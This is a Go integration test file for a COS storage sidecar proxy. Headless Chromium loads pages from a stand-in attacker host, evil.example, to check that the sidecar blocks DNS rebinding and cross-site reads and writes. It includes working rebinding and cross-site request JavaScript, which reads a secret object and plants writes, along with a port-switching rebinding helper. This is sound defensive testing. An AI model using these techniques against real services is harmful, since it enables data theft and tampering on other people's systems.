//go:build browser

package integration_test

import (
	"bytes"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"slices"
	"strings"
	"sync/atomic"
	"syscall"
	"testing"
	"time"

	"github.com/tencentyun/cos-go-sdk-v5"

	"cosproxy/integration/cosemu"
)

// attackerHost is the name of the attacker's site. The browsers of these tests resolve
// it to this machine.
const attackerHost = "evil.example"

// pageServer is a web server for a page that runs in a browser and reports its result.
type pageServer struct {
	server  *httptest.Server
	reports chan string
}

// newPageServer serves the result of page, called with the URL for the report, under
// every path.
func newPageServer(t *testing.T, page func(reportTo string) string) *pageServer {
	t.Helper()
	s := &pageServer{reports: make(chan string, 1)}
	s.server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/report" {
			text, _ := io.ReadAll(r.Body)
			s.reports <- string(text)
			return
		}
		w.Header().Set("Connection", "close") // so that a rebound name takes effect
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		fmt.Fprint(w, page(s.origin("localhost")+"/report"))
	}))
	t.Cleanup(s.server.Close)
	return s
}

// origin returns the origin of the server under a host name.
func (s *pageServer) origin(name string) string {
	return "http://" + name + ":" + port(s.server.Listener.Addr())
}

func port(a net.Addr) string { return fmt.Sprint(a.(*net.TCPAddr).Port) }

// script returns a page that runs the body of an async function and reports its result
// or exception.
func script(reportTo, body string) string {
	return `<!doctype html><meta charset=utf-8><body><script>
(async () => {` + body + `})().catch(e => "thrown: " + e).then(text =>
	fetch("` + reportTo + `", {method: "POST", mode: "no-cors", body: text}))
</script>`
}

// visit opens url in a real browser and returns the report of the page.
func (s *pageServer) visit(t *testing.T, url string) string {
	t.Helper()
	browser, err := exec.LookPath("chromium")
	if err != nil {
		t.Fatalf("these tests need chromium (Debian: apt-get install chromium): %v", err)
	}
	profile, err := os.MkdirTemp("", "cosproxy-browser-")
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = os.RemoveAll(profile) }()
	cmd := exec.Command(browser, "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
		"--disable-background-networking", "--disable-component-update", "--disable-sync",
		"--user-data-dir="+profile, "--host-resolver-rules=MAP "+attackerHost+" 127.0.0.1", url)
	cmd.Env = cleanEnv()
	inOwnGroup(cmd) // so that its helpers end with it
	var noise syncBuffer
	cmd.Stdout, cmd.Stderr, cmd.WaitDelay = &noise, &noise, time.Second
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	defer func() {
		signalGroup(cmd, syscall.SIGKILL)
		_ = cmd.Wait() // killed
	}()
	select {
	case report := <-s.reports:
		return report
	case <-time.After(2 * time.Minute):
		t.Fatalf("no report from the page at %s; output of the browser:\n%s", url, tail(noise.String(), 4000))
		return ""
	}
}

// put stores an object without the sidecar.
func put(t *testing.T, emu *cosemu.Server, key, contentType, content string) {
	t.Helper()
	_, err := sdkDirect(t, emu).Object.Put(t.Context(), key, strings.NewReader(content),
		&cos.ObjectPutOptions{ObjectPutHeaderOptions: &cos.ObjectPutHeaderOptions{ContentType: contentType}})
	if err != nil {
		t.Fatal(err)
	}
}

// requestsSince lists the requests at COS after the first n.
func requestsSince(emu *cosemu.Server, n int) []string {
	var all []string
	for _, r := range emu.Requests()[n:] {
		all = append(all, r.Method+" "+r.URI)
	}
	slices.Sort(all)
	return all
}

// TestBrowser_Rebinding loads a page from the attacker's server. Then the host name
// leads to the sidecar, so that the browser treats the sidecar as the page's own site.
func TestBrowser_Rebinding(t *testing.T) {
	for _, tt := range []struct {
		name, setting string
		reached       bool
	}{
		{"rejected", "COSPROXY_LOG_LEVEL=info", false},
		{"host allowed", "COSPROXY_ALLOWED_HOSTS=" + attackerHost, true},
	} {
		t.Run(tt.name, func(t *testing.T) {
			emu := startEmulator(t, cosemu.Options{StrictSignature: true})
			put(t, emu, "secret", "text/plain", "the secret")
			before := len(emu.Requests())
			s := startSidecar(t, program(), append(sidecarEnv(emu), tt.setting)...)
			attacker := newPageServer(t, func(reportTo string) string {
				return script(reportTo, `
					const read = await fetch("/secret");
					const text = await read.text();
					const write = await fetch("/planted", {method: "PUT", body: "planted"});
					return read.type + " " + read.status + " " + write.status + " " + text;`)
			})
			// The name leads to the attacker's server first, then to the sidecar.
			front := newRebindingPort(t, attacker.server.Listener.Addr().String(), strings.TrimPrefix(s.url, "http://"))
			report := attacker.visit(t, "http://"+attackerHost+":"+front+"/")
			if !tt.reached {
				if !strings.HasPrefix(report, "basic 421 421 ") || !strings.Contains(report, "<Code>MisdirectedRequest</Code>") {
					t.Errorf("the page saw %s", report)
				}
				if got := requestsSince(emu, before); len(got) != 0 {
					t.Errorf("COS got %q", got)
				}
				return
			}
			if report != "basic 200 200 the secret" {
				t.Errorf("the attack fails without the guard too, so the test proves nothing: %s", report)
			}
		})
	}
}

// newRebindingPort returns a port that leads to first until a page was loaded from
// there, and then to second.
func newRebindingPort(t *testing.T, first, second string) string {
	t.Helper()
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { l.Close() })
	var loaded atomic.Bool
	go func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			go func() {
				defer c.Close()
				begin := make([]byte, 1) // browsers open connections ahead of need
				if _, err := c.Read(begin); err != nil {
					return
				}
				to := first
				if loaded.Load() {
					to = second
				}
				up, err := net.Dial("tcp", to)
				if err != nil {
					return
				}
				defer up.Close()
				go func() { _, _ = io.Copy(up, io.MultiReader(bytes.NewReader(begin), c)) }()
				if n, _ := io.Copy(c, up); n > 0 {
					loaded.Store(true)
				}
			}()
		}
	}()
	return port(l.Addr())
}

// attack sends every kind of request that a page can send to another site, and reports
// when all have ended. %s is the sidecar.
const attack = `
	const target = "%s", outcomes = [];
	const ends = async (name, promise) => outcomes.push(name + ": " + await promise.catch(() => "error"));
	const loads = element => new Promise((load, error) => {
		element.onload = () => load("load");
		element.onerror = () => error("error");
		document.body.append(element);
	});
	await ends("no-cors", fetch(target + "/no-cors", {mode: "no-cors"}).then(r => r.type));
	await ends("cors", fetch(target + "/cors").then(r => r.type));
	await ends("post", fetch(target + "/post?append&position=0", {method: "POST", mode: "no-cors", body: "posted"}).then(r => r.type));
	await ends("put", fetch(target + "/put", {method: "PUT", body: "put"}).then(r => r.type));
	await ends("img", loads(Object.assign(new Image(), {src: target + "/img.svg"})));
	await ends("script", loads(Object.assign(document.createElement("script"), {src: target + "/script.js"})));
	document.body.insertAdjacentHTML("beforeend", '<form method=post enctype=text/plain target=frame action="' + target +
		'/form?append&position=0"><input name=a value=b></form>');
	const frame = Object.assign(document.createElement("iframe"), {name: "frame"});
	document.body.append(frame);
	const sent = new Promise(done => frame.onload = () => done("load"));
	document.forms[0].submit();
	await ends("form", sent);
	return outcomes.join(", ");`

// TestBrowser_CrossSite checks that a page of another site, or of another port of the
// same host, reaches COS only if its origin is listed.
func TestBrowser_CrossSite(t *testing.T) {
	for _, tt := range []struct {
		name, page, sidecar string
		listed              bool
	}{
		{"cross-site", attackerHost, "127.0.0.1", false},
		{"same-site", "localhost", "localhost", false},
		{"cross-site, listed", attackerHost, "127.0.0.1", true},
		{"same-site, listed", "localhost", "localhost", true},
	} {
		t.Run(tt.name, func(t *testing.T) {
			emu := startEmulator(t, cosemu.Options{StrictSignature: true})
			put(t, emu, "img.svg", "image/svg+xml", `<svg xmlns="http://www.w3.org/2000/svg" width="1" height="1"/>`)
			put(t, emu, "script.js", "text/javascript", "0")
			put(t, emu, "no-cors", "text/plain", "read")
			put(t, emu, "cors", "text/plain", "read")
			before := len(emu.Requests())
			var target string
			other := newPageServer(t, func(reportTo string) string { return script(reportTo, fmt.Sprintf(attack, target)) })
			env := sidecarEnv(emu)
			if tt.listed {
				env = append(env, "COSPROXY_ALLOWED_ORIGINS="+other.origin(tt.page))
			} else {
				env = append(env, "COSPROXY_ALLOWED_ORIGINS=https://app.example,"+other.origin("other.example"))
			}
			s := startSidecar(t, program(), env...)
			target = strings.Replace(s.url, "127.0.0.1", tt.sidecar, 1)
			report := other.visit(t, other.origin(tt.page)+"/")

			// The bucket has no CORS rules, so a page cannot read the responses.
			want, reaches := "no-cors: opaque, cors: error, post: opaque, put: error, img: error, script: error, form: load", []string(nil)
			if tt.listed {
				want = "no-cors: opaque, cors: error, post: opaque, put: error, img: load, script: load, form: load"
				reaches = []string{"GET /cors", "GET /img.svg", "GET /no-cors", "GET /script.js",
					"OPTIONS /put", "POST /form?append&position=0", "POST /post?append&position=0"}
			}
			if report != want {
				t.Errorf("the page saw\n%s\nwant\n%s", report, want)
			}
			if got := requestsSince(emu, before); !slices.Equal(got, reaches) {
				t.Errorf("COS got\n%q\nwant\n%q", got, reaches)
			}
		})
	}
}

// TestBrowser_SameOrigin checks that a page in the bucket has the origin of the
// sidecar and may read and write.
func TestBrowser_SameOrigin(t *testing.T) {
	emu := startEmulator(t, cosemu.Options{StrictSignature: true})
	put(t, emu, "text", "text/plain", "read")
	visitor := newPageServer(t, func(reportTo string) string { return reportTo })
	put(t, emu, "page.html", "text/html", script(visitor.origin("localhost")+"/report", `
		const read = await fetch("/text");
		const write = await fetch("/written", {method: "PUT", body: "written"});
		return write.status + " " + await read.text();`))
	s := startSidecar(t, program(), sidecarEnv(emu)...)
	if report := visitor.visit(t, s.url+"/page.html"); report != "200 read" {
		t.Errorf("the page saw %s", report)
	}
	if got := readDirect(t, emu, "written"); string(got) != "written" {
		t.Errorf("COS holds %q", got)
	}
}
